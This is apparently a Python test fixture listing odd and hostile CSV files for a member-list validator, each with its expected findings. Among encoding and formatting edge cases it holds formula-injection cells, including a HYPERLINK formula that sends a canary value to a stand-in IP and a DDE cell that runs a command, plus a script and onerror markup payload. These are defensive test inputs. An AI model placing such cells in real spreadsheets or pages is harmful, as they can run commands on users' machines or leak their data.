"""CSV files that people and programs really send, and some that nobody sends by mistake."""

from __future__ import annotations

from collections.abc import Callable

from tests.hostile.csvs import encoded, headed, lines
from tests.hostile.honest import HEADINGS, READ, Cases, csv_bytes

TOP = ",".join(HEADINGS)
GONE = ("members.column_a.column_extra A1", "members.member_id.column_missing", *READ)
RENAMED = ("members.member_id.column_renamed A1", *READ)
TWICE = (
    *READ,
    "members.member_id.pattern A4",
    "members.member_id.whitespace A4",
    "members.joined.type C4",
    "members.age.type D4",
    "members.age.type D6",
)


def with_end(end: bytes) -> Callable[[str], bytes]:
    """The honest file and something behind it."""
    return lambda canary: csv_bytes(canary) + end


def with_start(start: bytes) -> Callable[[str], bytes]:
    """Something, and the honest file."""
    return lambda canary: start + csv_bytes(canary)


CSVS_ODD: Cases = {
    # Read right.
    "a line that tells the separator": (with_start(b"sep=,\n"), READ),
    "a formula in a cell": (lines('M-003,"=HYPERLINK(""http://203.0.113.1/?CANARY"",""x"")",,'), READ),
    "a command in a cell": (lines("M-003,=cmd|' /C calc'!A0,,", "M-004,@SUM(1),,", "M-005,＝1+1,,"), READ),
    "text that turns round": (
        lines("M-003,\u202eCANARY\u202c,,"),
        (*READ, "members.full_name.characters B4"),
    ),
    "a cell of one invisible space": (lines("\u200b,x,,"), (*READ, "members.member_id.required A4")),
    "no line end at the end": (lambda canary: csv_bytes(canary)[:-1], READ),
    "a line separator of Unicode in a cell": (
        lines("M-003,CANARY\u2028x\u2029y\x85z,,", "M-004,x,,x"),
        (*READ, "members.full_name.characters B4", "members.age.type D5"),
    ),
    "line ends written twice": (
        lambda canary: csv_bytes(canary).replace(b"\n", b"\r\r\n"),
        ("members.blank_rows", "members.age.type D5"),
    ),
    "a cell of quotation marks": (
        lines('M-003,"' + '""' * 10_000 + '",,', "M-004,x,,x"),
        (*READ, "members.age.type D5"),
    ),
    "headings again in the middle": (
        lines(TOP),
        (*READ, "members.member_id.pattern A4", "members.joined.type C4", "members.age.type D4"),
    ),
    "sixty blank lines first": (with_start(b"\n" * 60), ("members.age.type D63",)),
    "markup in a cell": (
        lines('M-003,<script>alert("CANARY")</script><img src=x onerror=x>,,'.replace('"', "'")),
        READ,
    ),
    "a figure as a spreadsheet mangles it": (lines("M-003,x,,9.43E+09"), (*READ, "members.age.type D4")),
    "UTF-7": (lines("M-003,CANARY+AOk-,,"), READ),
    "letters outside the first plane": (lines("M-003,CANARY\U0001f600\U000e0041\U0010ffff\ue000,,"), READ),
    "headings that differ in case and spaces": (
        headed(" MEMBER ID ,Full-Name,JOINED,Age"),
        tuple(f"members.{name}.column_renamed {at}1" for name, at in zip(HEADINGS, "ABCD", strict=True)),
    ),
    "a space that does not break in a heading": (headed("member\xa0id,full_name,joined,age"), RENAMED),
    "a heading with an invisible letter": (headed("member_id\u200b,full_name,joined,age"), READ),
    "a heading with a letter of another script": (headed("m\u0435mber_id,full_name,joined,age"), RENAMED),
    "a heading in wide letters": (headed("\uff4d\uff45mber_id,full_name,joined,age"), RENAMED),
    "a heading that is a formula": (headed("=1+1,full_name,joined,age"), GONE),
    "a heading with a line break": (headed('"member\nid",full_name,joined,age'), RENAMED),
    "a heading of 30,000 letters": (headed("x" * 30_000 + ",full_name,joined,age"), GONE),
    "a thousand columns more": (headed(TOP + ",x" * 1_000), ("file.ragged",)),
    # Refused.
    "a line that tells another separator": (
        with_start(b"sep=;\n"),
        ("members.titles_above", "members.age.type D4"),
    ),
    "vertical bars": (lambda canary: csv_bytes(canary).replace(b",", b"|"), ("file.separator",)),
    "2,001 columns": (
        headed(TOP + "," + ",".join(f"x{n}" for n in range(2_000))),
        ("file.too_many_columns",),
    ),
    "100,000 records too short": (lines("M-003\n" * 100_000), ("file.ragged",)),
    "space after a quotation mark": (lines('M-003,"CANARY" ,,'), ("file.csv_quotes",)),
    "a quotation mark escaped in another way": (lines('M-003,"CAN\\"ARY",,'), ("file.csv_quotes",)),
    "one cell over the whole file": (with_start(b'"'), ("file.csv_quotes",)),
    "UTF-8 and Windows text in one file": (
        lambda canary: encoded("utf-8")(canary) + encoded("cp1252")(canary),
        ("file.encoding",),
    ),
    "half a letter at the end": (lambda canary: encoded("utf-8")(canary) + b"M-003,\xc3", ("file.encoding",)),
    "half a surrogate pair in UTF-8": (
        with_end(b"M-003,\xed\xa0\x80,,\n"),
        ("members.windows_text", *READ, "members.full_name.characters B4"),
    ),
    "half a surrogate pair in UTF-16": (
        lambda canary: encoded("utf-16")(canary) + b"\x00\xd8x\x00",
        ("file.encoding",),
    ),
    "two files put together with their marks": (lambda canary: encoded("utf-8-sig")(canary) * 2, TWICE),
    "a mark and nothing else": (lambda _: b"\xef\xbb\xbf", ("members.header_missing",)),
    "noughts and nothing else": (lambda _: bytes(5_000), ("file.control_character",)),
    "an end of file of old": (with_end(b"\x1a"), ("file.control_character",)),
    "a form feed": (with_end(b"\x0c\n"), ("file.control_character",)),
    "text of a mainframe": (encoded("cp037"), ("file.encoding",)),
    "a CSV file with an archive behind it": (with_end(b"PK\x03\x04\x14\0\0\0"), ("file.control_character",)),
}
